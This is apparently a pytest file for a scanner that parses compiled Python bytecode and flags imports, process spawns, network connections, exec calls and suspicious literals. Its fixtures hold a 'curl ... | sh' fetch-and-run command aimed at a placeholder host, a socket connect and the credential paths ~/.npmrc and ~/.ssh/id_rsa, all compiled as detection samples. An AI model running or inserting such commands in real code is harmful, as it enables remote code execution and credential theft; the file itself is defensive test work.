"""Compiled Python: names, imports and constants of code objects, in the layouts of every version that is read."""

import marshal
import struct
from types import CodeType
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind, Moment
from lazaretto.core.language import NoUnits
from lazaretto.languages import pyc

SOURCE = """
import os, subprocess as sp
from urllib.request import urlopen
KEY = '~/.npmrc'
def f(a, *b, c=1, **d):
    import socket
    socket.socket().connect(('192.0.2.1', 80))
    return [sp.run(['curl', 'https://drop.example.invalid/x']) for x in a if x in {1, 2, 'z'}]
class C:
    def g(self):
        exec('1'); os.system('curl -s https://drop.example.invalid | sh')
        return {1: 2.5, 'k': (1, 2, 1 << 80, 3j, b'x', ..., True, None)}
"""
MAGIC = {
    "3.6": 3379,
    "3.7": 3394,
    "3.8": 3413,
    "3.9": 3425,
    "3.10": 3439,
    "3.11": 3495,
    "3.12": 3531,
    "3.13": 3571,
    "3.14": 3627,
}
IMPORT_NAME = {"3.13": 75, "3.14": 73}


class Writer:
    """Writes marshalled code by hand, in the layout of one version and without references."""

    def __init__(self, version: str) -> None:
        self._version = version
        self._new = version not in {"3.6", "3.7", "3.8", "3.9", "3.10"}
        self._counts = 6 if version in {"3.8", "3.9", "3.10"} else 5

    def file(self) -> bytes:
        """Return a compiled file whose module imports ``os`` and holds one function."""
        function = self.code("f", [], ("~/.ssh/id_rsa", None, 1 << 70, 2.5), ())
        body = self.code(
            "<module>", ["os", "system", "C"], (function, "curl -s https://drop.example.invalid | sh"), ("os",)
        )
        return struct.pack("<H", MAGIC[self._version]) + b"\r\n" + bytes(8 if self._version == "3.6" else 12) + body

    def code(self, name: str, names: list[str], constants: tuple[Any, ...], imports: tuple[str, ...]) -> bytes:
        """Return a code object."""
        operation = IMPORT_NAME.get(self._version, 108)
        instructions = b"".join(bytes((operation, names.index(one))) for one in imports)
        head = b"c" + bytes(4 * self._counts) + self.value(instructions)
        head += self.value(constants) + self.value(tuple(names))
        head += self.value(()) + (self.value(b"") if self._new else self.value(()) * 2)
        head += self.value("file.py") + self.value(name) + (self.value(name) if self._new else b"")
        return head + struct.pack("<i", 1) + self.value(b"") * (2 if self._new else 1)

    def value(self, value: Any) -> bytes:
        """Return a value; bytes that begin like code are code that was already written."""
        if isinstance(value, bytes) and value[:1] == b"c" and len(value) > 40:
            return value
        if isinstance(value, bytes):
            return b"s" + struct.pack("<I", len(value)) + value
        if isinstance(value, str):
            return b"z" + bytes((len(value),)) + value.encode()
        if isinstance(value, tuple):
            return b")" + bytes((len(value),)) + b"".join(map(self.value, value))
        if isinstance(value, int):
            return b"l" + struct.pack("<i", 5) + bytes(10)
        return b"N" if value is None else b"g" + struct.pack("<d", value)


def compiled(source: str = SOURCE) -> bytes:
    """Return what this Python would write beside a module."""
    import importlib.util

    code: CodeType = compile(source, "file.py", "exec")
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)


def read(data: bytes) -> Facts:
    """Read a compiled file."""
    return pyc.read("pyc", data, NoUnits())


def told(facts: Facts) -> set[tuple[Kind, str | None, Moment]]:
    """Return everything that is told, without places."""
    return {(fact.kind, fact.value, fact.moment) for fact in facts.facts}


def test_what_this_python_compiles() -> None:
    """Imports, calls by name and constants, at the moment at which the code around them runs."""
    facts = read(compiled())

    assert facts.complete
    assert {
        (Kind.IMPORT, "os", Moment.LOAD),
        (Kind.IMPORT, "urllib.request", Moment.LOAD),
        (Kind.IMPORT, "socket", Moment.CALL),
        (Kind.PROCESS_SPAWN, "os.system", Moment.CALL),
        (Kind.PROCESS_SPAWN, "subprocess.run", Moment.CALL),
        (Kind.NET_CONNECT, "socket.connect", Moment.CALL),
        (Kind.CODE_EVAL, "exec", Moment.CALL),
        (Kind.LITERAL_PATH, "~/.npmrc", Moment.LOAD),
        (Kind.LITERAL_COMMAND, "curl -s https://drop.example.invalid | sh", Moment.CALL),
    } <= told(facts)


@pytest.mark.parametrize("version", MAGIC)
def test_layout_of_every_version(version: str) -> None:
    """The fields of a code object and the number of the import instruction changed; both layouts are read."""
    facts = read(Writer(version).file())

    assert facts.complete
    assert {
        (Kind.IMPORT, "os", Moment.LOAD),
        (Kind.PROCESS_SPAWN, "os.system", Moment.LOAD),
        (Kind.LITERAL_PATH, "~/.ssh/id_rsa", Moment.CALL),
    } <= told(facts)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        struct.pack("<H", 3700) + b"\r\n" + bytes(12) + b"N",
        compiled()[:-40],
        compiled()[:16] + b"?",
        compiled()[:16] + b"(\xff\xff\xff\xff",
        compiled()[:16] + b"r\x05\0\0\0",
        compiled()[:16] + b")\x01" * 300,
        compiled()[:16] + b"s\xff\xff\xff\xff",
    ],
)
def test_not_understood(data: bytes) -> None:
    """Other versions, what is cut off, and what says too much are problems."""
    assert not read(data).complete


def test_bytecode_that_no_python_loads_any_more() -> None:
    """Bytecode of Python 2 cannot run: that it is not read is no problem."""
    assert read(struct.pack("<H", 62211) + b"\r\n" + bytes(40)).complete


@settings(max_examples=200)
@given(data=st.data())
def test_mutated_bytecode(data: st.DataObject) -> None:
    """Whatever becomes of a file, it is read the same way twice and nothing is raised."""
    sample = data.draw(st.sampled_from([compiled(), *(Writer(version).file() for version in MAGIC)]))
    found = bytearray(sample)
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(16, len(found) - 1))
        found[at : at + data.draw(st.integers(0, 4))] = data.draw(st.binary(max_size=5))
        found += b"N" * 4

    assert read(bytes(found)) == read(bytes(found))
